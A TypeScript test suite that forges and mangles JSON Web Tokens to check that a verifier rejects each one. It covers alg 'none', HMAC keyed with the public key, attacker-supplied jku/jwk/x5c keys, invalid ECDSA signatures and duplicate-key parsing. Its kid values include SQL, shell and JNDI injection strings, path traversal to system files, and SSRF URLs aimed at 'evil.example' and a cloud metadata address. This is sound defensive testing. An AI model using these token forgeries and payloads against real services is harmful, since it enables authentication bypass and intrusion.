/** JSON Web Tokens whose header, signature or spelling is not what it should be. */

import { createPublicKey, type KeyObject } from "node:crypto";
import { tokens } from "./attack.ts";
import {
  type Attacker,
  encoded,
  type Facts,
  PINNED,
  publicJwk,
  SECOND,
  type SigningKey,
  signatureOf,
} from "./attacker.ts";

type Make = (attacker: Attacker) => string | Promise<string>;

/** Signed by nobody's key, with a header of the attacker's. */
const forged =
  (header: Facts, key: "stranger" | "strangerRsa" = "stranger"): Make =>
  (a) =>
    a.sign(a.claims(), header, a.keys[key]);

/** Signed by the right key, with a header of the attacker's: what one who can have a header signed would send. */
const signed =
  (header: Facts): Make =>
  (a) =>
    a.sign(a.claims(), header);

/** The sound token's own signature behind another header. */
const reheaded =
  (header: Facts): Make =>
  (a) => {
    const [, payload, signature] = a.sign().split(".");
    return `${encoded({ alg: "ES256", typ: "JWT", kid: "ec", ...header })}.${payload}.${signature}`;
  };

const hmac =
  (
    algorithm: "HS256" | "HS384" | "HS512",
    secret: (key: SigningKey) => string | Buffer | KeyObject,
    kid = "rsa",
  ): Make =>
  (a) => {
    const input = `${encoded({ alg: algorithm, typ: "JWT", kid })}.${encoded(a.claims())}`;
    return `${input}.${signatureOf(input, algorithm, secret(a.keys.rsa)).toString("base64url")}`;
  };

const pem = ({ publicKey }: SigningKey, type: "spki" | "pkcs1" = "spki") =>
  publicKey.export({ type, format: "pem" }).toString();

/** The three parts of a sound token, to be put together otherwise. */
const respelled =
  (spell: (header: string, payload: string, signature: string) => string): Make =>
  (a) => {
    const [header, payload, signature] = a.sign().split(".") as [string, string, string];
    return spell(header, payload, signature);
  };

/** A signature of 64 bytes made of two numbers, which nobody's key has made. */
const pair =
  (r: bigint, s: bigint): Make =>
  (a) => {
    const hex = (value: bigint) => value.toString(16).padStart(64, "0");
    return respelled(
      (header, payload) => `${header}.${payload}.${Buffer.from(hex(r) + hex(s), "hex").toString("base64url")}`,
    )(a);
  };
/** The order of P-256 (FIPS 186-4, D.1.2.3). */
const N = 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n;

/** All sixteen ways to write it. */
const NONES = Array.from({ length: 16 }, (_, bits) =>
  [..."none"].map((letter, at) => (bits & (1 << at) ? letter.toUpperCase() : letter)).join(""),
);

const named = <Value>(values: readonly Value[], name: (value: Value) => string, make: (value: Value) => Make) =>
  Object.fromEntries(values.map((value) => [name(value), make(value)]));

const KIDS: readonly unknown[] = [
  "../../../../../../dev/null",
  "/proc/self/environ",
  "/dev/null",
  "ec\u0000.pem",
  "\u0000",
  "' OR '1'='1",
  "x' UNION SELECT 'AAAA' -- ",
  "http://100.100.100.200/latest/meta-data/",
  "https://evil.example/jwks.json",
  "file:///etc/passwd",
  "|id",
  "$(id)",
  `\${jndi:ldap://evil.example/a}`,
  "{{7*7}}",
  "ec\r\nSet-Cookie: a=b",
  "__proto__",
  "constructor",
  "toString",
  "0",
  "*",
  "EC",
  " ec",
  "ec ",
  "еc",
  "",
  "k".repeat(5000),
];

const crossed = {
  "a token of one issuer with another's name in iss": (a: Attacker) => a.sign(a.claims({ iss: SECOND, sub: "second" })),
  "a token of the second issuer under the first's name, of one kid": (a: Attacker) =>
    a.sign(a.claims(), {}, a.keys.second),
  "another key of the same issuer under this kid": (a: Attacker) => a.sign(a.claims(), { kid: "ec" }, a.keys.ec2),
  "this key under the kid of another key of the issuer": (a: Attacker) => a.sign(a.claims(), { kid: "ec2" }),
  "an elliptic signature under the kid of an RSA key": (a: Attacker) => a.sign(a.claims(), { kid: "rsa" }),
  "an RSA signature under the kid of an elliptic key": (a: Attacker) => a.sign(a.claims(), { kid: "ec" }, a.keys.rsa),
  "no kid where two keys of the issuer would fit": (a: Attacker) => a.sign(a.claims(), { kid: undefined }),
  "a live issuer's token under another live issuer's name": (a: Attacker) =>
    a.mint({ iss: a.other.url, sub: "stranger" }),
  "the other live issuer's token under this one's name": (a: Attacker) =>
    a.other.mint({ iss: a.ci.url, sub: "job", note: a.canary }),
  "a live issuer's token under a pinned issuer's name": (a: Attacker) =>
    a.mint({ iss: PINNED, ref: "refs/heads/main" }),
};

export const algorithms = tokens(401, "invalid_token", {
  ...named(
    NONES,
    (alg) => `alg ${alg}`,
    (alg) => reheaded({ alg }),
  ),
  "alg none and no signature": (a) => `${encoded({ alg: "none" })}.${encoded(a.claims())}.`,
  "alg none, no signature and no dot": (a) => `${encoded({ alg: "none" })}.${encoded(a.claims())}`,
  "HS256 by the public key in PEM": hmac("HS256", (key) => pem(key)),
  "HS256 by the public key in PEM, without its last end of line": hmac("HS256", (key) => pem(key).trimEnd()),
  "HS256 by the public key in PEM of PKCS #1": hmac("HS256", (key) => pem(key, "pkcs1")),
  "HS256 by the public key in DER": hmac("HS256", ({ publicKey }) => publicKey.export({ type: "spki", format: "der" })),
  "HS256 by the public key as JWK": hmac("HS256", (key) => JSON.stringify(publicJwk(key))),
  "HS256 by the public key's modulus": hmac("HS256", (key) => Buffer.from(String(publicJwk(key)["n"]), "base64url")),
  "HS256 by an empty secret": hmac("HS256", () => ""),
  "HS384 by the public key": hmac("HS384", (key) => pem(key)),
  "HS512 by the public key": hmac("HS512", (key) => pem(key)),
  "HS256 by the elliptic public key": (a) => hmac("HS256", () => pem(a.keys.ec), "ec")(a),
  "an algorithm that the issuer may not use, rightly signed": (a) =>
    a.sign(a.claims(), { alg: "PS256" }, { ...a.keys.rsa, algorithm: "PS256" }),
  "another padding than alg says": (a) => a.sign(a.claims(), { alg: "RS256" }, { ...a.keys.rsa, algorithm: "PS256" }),
  ...named<unknown>(
    [
      "rs256",
      "es256",
      "ES256 ",
      "ES256\u0000",
      "ES256K",
      "ES384",
      "EdDSA",
      "RSA1_5",
      "dir",
      "A256KW",
      "__proto__",
      "constructor",
      "",
      "*",
      null,
      1,
      true,
      ["ES256"],
      { alg: "ES256" },
    ],
    (alg) => `an alg of ${JSON.stringify(alg)}`,
    (alg) => signed({ alg }),
  ),
  "no alg": signed({ alg: undefined }),
});

export const headers = tokens(401, "invalid_token", {
  "a key that the token brings (jwk)": (a) => forged({ jwk: publicJwk(a.keys.stranger) })(a),
  "a jwk of null": signed({ jwk: null }),
  "a place to fetch the key from (jku)": (a) => forged({ jku: `${a.hostile.origin}/trap/jku` })(a),
  "a jku at the metadata service": forged({ jku: "http://100.100.100.200/latest/meta-data/" }),
  "a jku of the issuer's own": forged({ jku: `${PINNED}/jwks` }),
  "a jku that is a file": forged({ jku: "file:///dev/null" }),
  "a place to fetch a certificate from (x5u)": (a) => forged({ x5u: `${a.hostile.origin}/trap/x5u` })(a),
  "a certificate that the token brings (x5c)": (a) =>
    forged({ x5c: [a.keys.stranger.publicKey.export({ type: "spki", format: "der" }).toString("base64")] })(a),
  "an empty x5c": signed({ x5c: [] }),
  "a critical parameter": signed({ crit: ["exp"] }),
  "no critical parameters, said so": signed({ crit: [] }),
  "a critical parameter that every object has": signed({ crit: ["toString"], toString: 1 }),
  "a payload that is not encoded (b64)": signed({ b64: false, crit: ["b64"] }),
  "b64 that is not said to be critical": signed({ b64: false }),
  "b64 as it is anyway": signed({ b64: true }),
  "a compressed payload": signed({ zip: "DEF" }),
  "an encryption": signed({ enc: "A256GCM" }),
  ...named<unknown>(
    KIDS,
    (kid) => `a kid of ${JSON.stringify(kid).slice(0, 60)}`,
    (kid) => forged({ kid }),
  ),
  ...named<unknown>(
    [1, null, true, ["ec"], { kid: "ec" }],
    (kid) => `a kid of ${JSON.stringify(kid)}`,
    (kid) => signed({ kid }),
  ),
  "HMAC by nothing under the kid of an empty file": (a) => hmac("HS256", () => "", "../../../../dev/null")(a),
  ...named<unknown>(
    [
      "at+jwt",
      "application/at+jwt",
      "secevent+jwt",
      "logout+jwt",
      "dpop+jwt",
      "vc+sd-jwt",
      "JWE",
      "JWT ",
      "J\u200bWT",
      "",
      1,
      null,
      ["JWT"],
    ],
    (typ) => `a typ of ${JSON.stringify(typ)}`,
    (typ) => signed({ typ }),
  ),
  "an alg twice": (a) => a.sign(a.claims(), '{"alg":"none","alg":"ES256","typ":"JWT","kid":"ec"}'),
  "an alg twice, once escaped": (a) => a.sign(a.claims(), '{"\\u0061lg":"none","alg":"ES256","kid":"ec"}'),
  "a kid twice": (a) => a.sign(a.claims(), '{"alg":"ES256","kid":"ec2","kid":"ec"}'),
  "an alg by way of the prototype": (a) => a.sign(a.claims(), '{"__proto__":{"alg":"ES256"},"kid":"ec"}'),
  "a header that is a list": (a) => a.sign(a.claims(), '["ES256"]'),
  "a header that is text": (a) => a.sign(a.claims(), '"ES256"'),
  "a header that is null": (a) => a.sign(a.claims(), "null"),
  "a header that is no JSON": (a) => a.sign(a.claims(), "alg=ES256"),
  "a header with a byte order mark": (a) => a.sign(a.claims(), '\ufeff{"alg":"ES256","kid":"ec"}'),
  "a header nested without end": (a) =>
    a.sign(a.claims(), `{"alg":"ES256","kid":"ec","x":${"[".repeat(900)}${"]".repeat(900)}}`),
});

export const signatures = tokens(401, "invalid_token", {
  "r and s of zero": pair(0n, 0n),
  "r of zero": pair(0n, 1n),
  "s of zero": pair(1n, 0n),
  "r and s of one": pair(1n, 1n),
  "r and s of the curve's order": pair(N, N),
  "r and s beside the curve's order": pair(N - 1n, N + 1n),
  "r and s of all ones": pair(2n ** 256n - 1n, 2n ** 256n - 1n),
  "a signature in DER": (a) => {
    const input = a.sign().split(".").slice(0, 2).join(".");
    // An RSA signature is one string of bytes as well; what counts is that these are not r and s side by side.
    const der = Buffer.concat([
      Buffer.from([0x30, 0x44, 0x02, 0x20]),
      Buffer.alloc(32, 1),
      Buffer.from([0x02, 0x20]),
      Buffer.alloc(32, 1),
    ]);
    return `${input}.${der.toString("base64url")}`;
  },
  "a signature of nothing but zeros, as long as RSA's": (a) => {
    const [header, payload] = a.sign(a.claims(), {}, a.keys.rsa).split(".");
    return `${header}.${payload}.${Buffer.alloc(256).toString("base64url")}`;
  },
  "an RSA signature of one": (a) => {
    const [header, payload] = a.sign(a.claims(), {}, a.keys.rsa).split(".");
    return `${header}.${payload}.${Buffer.concat([Buffer.alloc(255), Buffer.from([1])]).toString("base64url")}`;
  },
  "another token's signature": (a) => {
    const [header, payload] = a.sign(a.claims({ sub: "root" })).split(".");
    return `${header}.${payload}.${a.sign().split(".")[2]}`;
  },
  "another subject under the same signature": (a) => {
    const [header, , signature] = a.sign(a.claims({ sub: "nobody" })).split(".");
    return `${header}.${encoded(a.claims())}.${signature}`;
  },
  "a signature by nobody's key": forged({}),
  "an RSA signature by nobody's key": forged({}, "strangerRsa"),
  "a signature by the public key taken for a private one": (a) => {
    const other = {
      ...a.keys.stranger,
      publicKey: createPublicKey(a.keys.ec.publicKey.export({ type: "spki", format: "pem" })),
    };
    return a.sign(a.claims(), {}, other);
  },
  "a signature cut by a byte": respelled(
    (h, p, s) => `${h}.${p}.${Buffer.from(s, "base64url").subarray(0, 63).toString("base64url")}`,
  ),
  "a signature with a byte more": respelled(
    (h, p, s) => `${h}.${p}.${Buffer.concat([Buffer.from(s, "base64url"), Buffer.alloc(1)]).toString("base64url")}`,
  ),
  "r and s exchanged": respelled((h, p, s) => {
    const bytes = Buffer.from(s, "base64url");
    return `${h}.${p}.${Buffer.concat([bytes.subarray(32), bytes.subarray(0, 32)]).toString("base64url")}`;
  }),
  ...crossed,
});

const flip = (text: string) =>
  text.replace(/[a-z](?=[^a-z]*$)/i, (letter) =>
    letter === letter.toUpperCase() ? letter.toLowerCase() : letter.toUpperCase(),
  );

export const spellings = tokens(401, "invalid_token", {
  "one part": (a) => a.sign().replaceAll(".", ""),
  "two parts": respelled((h, p) => `${h}.${p}`),
  "four parts": respelled((h, p, s) => `${h}.${p}.${s}.${s}`),
  "five parts, as an encrypted token has": respelled((h, p, s) => `${h}.${p}.${s}.${p}.${s}`),
  "an empty header": respelled((_, p, s) => `.${p}.${s}`),
  "an empty payload": respelled((h, _, s) => `${h}..${s}`),
  "an empty signature": respelled((h, p) => `${h}.${p}.`),
  "dots alone": () => "..",
  "eight thousand dots": () => ".".repeat(8000),
  "a dot before it": (a) => `.${a.sign()}`,
  "a dot behind it": (a) => `${a.sign()}.`,
  "the token twice with a comma": (a) => `${a.sign()},${a.sign()}`,
  "padding behind the signature": (a) => `${a.sign()}==`,
  "one sign of padding": (a) => `${a.sign()}=`,
  "padding behind the header": respelled((h, p, s) => `${h}=.${p}.${s}`),
  "percent-encoded padding": (a) => `${a.sign()}%3D`,
  "percent-encoded dots": (a) => a.sign().replaceAll(".", "%2E"),
  "the other alphabet's plus": respelled((h, p, s) => `${h}.${p}.${s.slice(0, -2)}+A`),
  "the other alphabet's slash": respelled((h, p, s) => `${h}.${p}.${s.slice(0, -2)}/A`),
  "bits behind the signature's last byte": respelled((h, p, s) => {
    const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    return `${h}.${p}.${s.slice(0, -1)}${alphabet[alphabet.indexOf(s.at(-1) as string) ^ 1]}`;
  }),
  "a letter of the other case": respelled((h, p, s) => `${h}.${p}.${flip(s)}`),
  "a character that base64 passes over": respelled((h, p, s) => `${h}.${p}.${s.slice(0, 9)}!${s.slice(9)}`),
  "a quote around it": (a) => `"${a.sign()}"`,
  "its JSON serialization": (a) => {
    const [protectedHeader, payload, signature] = a.sign().split(".");
    return JSON.stringify({ payload, protected: protectedHeader, signature });
  },
  "longer than a token may be": (a) => a.sign(a.claims({ long: "x".repeat(7000) })),
  "a payload that is a list": (a) => a.sign(JSON.stringify([a.claims()])),
  "a payload that is null": (a) => a.sign("null"),
  "a payload that is text": (a) => a.sign(JSON.stringify(JSON.stringify(a.claims()))),
  "a payload with a byte order mark": (a) => a.sign(`\ufeff${JSON.stringify(a.claims())}`),
  "a payload with something behind it": (a) => a.sign(`${JSON.stringify(a.claims())}{}`),
  "a payload with a comment": (a) => a.sign(JSON.stringify(a.claims()).replace("{", "{/**/")),
  "a payload in single quotes": (a) => a.sign(JSON.stringify(a.claims()).replaceAll('"', "'")),
  "a payload nested without end": (a) =>
    a.sign(JSON.stringify(a.claims()).replace("{", `{"x":${"[".repeat(2000)}${"]".repeat(2000)},`)),
  "a payload of objects in objects": (a) =>
    a.sign(JSON.stringify(a.claims()).replace("{", `{"x":${'{"a":'.repeat(40)}1${"}".repeat(40)},`)),
  "a payload that never ends": (a) => a.sign("[".repeat(4000)),
  "a sub twice": (a) => a.sign(JSON.stringify(a.claims({ sub: "nobody" })).replace(/}$/, ',"sub":"job"}')),
  "a sub twice, once escaped": (a) =>
    a.sign(JSON.stringify(a.claims({ sub: "nobody" })).replace(/}$/, ',"su\\u0062":"job"}')),
  "an iss twice": (a) => a.sign(JSON.stringify(a.claims({ iss: SECOND })).replace(/}$/, `,"iss":"${PINNED}"}`)),
  "an exp twice": (a) => a.sign(JSON.stringify(a.claims({ exp: 1 })).replace(/}$/, ',"exp":99999999999}')),
  "a key twice in a claim": (a) => a.sign(JSON.stringify(a.claims()).replace(/}$/, ',"act":{"sub":"a","sub":"b"}}')),
});
